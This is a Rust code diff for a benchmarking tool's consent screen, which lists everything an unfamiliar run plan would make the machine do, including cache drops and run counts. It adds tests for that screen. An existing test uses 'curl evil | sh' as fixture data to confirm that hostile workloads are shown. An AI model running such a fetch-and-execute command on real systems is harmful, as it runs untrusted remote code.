@@ -2,11 +2,12 @@
 
 use super::say;
 use crate::fault::{Doing, Fault};
-use crate::plan::{Plan, shell_line};
+use crate::plan::{Cache, Conduct, Plan, duration, shell_line};
 use crate::report::page::Page;
 use crate::workload::Workload;
 use std::io::{BufRead, IsTerminal, Write};
 use std::path::Path;
+use std::time::Duration;
 
 /// The width of what is shown.
 const WIDTH: u16 = 100;
@@ -34,38 +35,84 @@ pub(super) fn require(plan: &Plan, path: &Path, is_wanted: bool) -> Result<(), F
     )))
 }
 
-/// Everything that a plan makes this machine do.
+/// Everything that a plan makes this machine do. It is taken apart field by field, so that a new one does not compile
+/// before somebody has said whether it does.
 fn shown(plan: &Plan, path: &Path) -> String {
+    let Plan {
+        schema_version: _,
+        title: _,
+        stacks,
+        baseline,
+        beside,
+        command,
+        workload,
+        cwd,
+        environment,
+        inherit_environment,
+        writable,
+        runs,
+        time_budget_ns,
+        precision_ppm: _,
+        warm_up,
+        conduct,
+        command_deadline_ns,
+        start_deadline_ns: _,
+        equivalence_margin_ppm: _,
+        seed: _,
+    } = plan;
     let mut page = Page::new(WIDTH);
     let heading = format!(
         "The run in `{}` was not begun by this user on this machine, or its plan was changed. To go on with it executes:",
         path.display()
     );
     page.paragraph("", &heading, 0);
-    page.unbroken("  command    ", &shell_line(plan.command.iter().map(String::as_str)));
-    if let Some(workload) = &plan.workload {
+    page.unbroken("  command    ", &shell_line(command.iter().map(String::as_str)));
+    if let Some(workload) = workload {
         page.unbroken("  workload   ", &workload.typed());
         definition(workload, &mut page);
     }
-    for stack in &plan.stacks {
+    for stack in stacks {
         page.unbroken("  in         ", &stack.to_string());
     }
-    page.unbroken("  baseline   ", &plan.baseline.to_string());
-    for neighbour in &plan.beside {
+    page.unbroken("  baseline   ", &baseline.to_string());
+    for neighbour in beside {
         page.unbroken("  beside     ", &neighbour.to_string());
         definition(&neighbour.workload, &mut page);
     }
-    page.unbroken("  directory  ", &plan.cwd.to_string_lossy());
-    for (name, value) in &plan.environment {
+    page.unbroken("  directory  ", &cwd.to_string_lossy());
+    for (name, value) in environment {
         page.unbroken("  variable   ", &shell_line([format!("{name}={value}").as_str()]));
     }
-    if plan.inherit_environment {
+    if *inherit_environment {
         page.unbroken("  variables  ", "all of yours");
     }
-    for directory in &plan.writable {
+    for directory in writable {
         page.unbroken("  writes to  ", &directory.to_string_lossy());
     }
+    let length = |nanoseconds| duration::text(Duration::from_nanos(nanoseconds));
+    let blocks = match (runs, time_budget_ns) {
+        (Some(runs), _) => format!("{runs} runs"),
+        (None, Some(budget)) => format!("as many runs as begin within {}", length(*budget)),
+        (None, None) => String::from("as many runs as it takes"),
+    };
+    page.unbroken(
+        "  how often  ",
+        &format!("{blocks} of each stack, {}", each(*conduct, *warm_up)),
+    );
+    page.unbroken("  at most    ", &format!("{} for each command", length(*command_deadline_ns)));
+    if conduct.cache == Cache::Cold {
+        page.unbroken(
+            "  drops      ",
+            "the page caches of this whole machine, before each command",
+        );
+    }
     page.finish()
+}
+
+/// What is done in one started stack.
+fn each(conduct: Conduct, warm_up: u32) -> String {
+    let Conduct { iterations, instances, cache: _, settle_ns: _, padding_limit_bytes: _ } = conduct;
+    format!("{iterations} measured and {warm_up} to warm up in each, {instances} commands at once")
 }
 
 /// What a workload runs is in its text, whatever it is called.
@@ -102,6 +149,19 @@ mod tests {
         let text = shown(&plan, Path::new("a.surtax"));
         assert!(text.contains("beside     adversary.load@native"), "{text}");
         assert!(text.contains("curl evil | sh"), "{text}");
+    }
+
+    #[test]
+    fn what_is_done_to_the_whole_machine_is_shown_and_how_often() {
+        let conduct = Conduct { cache: Cache::Cold, iterations: 3, ..Conduct::plain() };
+        let text = shown(
+            &Plan { conduct, runs: Some(7), ..plan(&["native", "runc"]) },
+            Path::new("a.surtax"),
+        );
+        assert!(text.contains("drops      the page caches of this whole machine"), "{text}");
+        assert!(text.contains("7 runs of each stack, 3 measured"), "{text}");
+        let text = shown(&plan(&["native", "runc"]), Path::new("a.surtax"));
+        assert!(!text.contains("page caches"), "{text}");
     }
 
     #[test]
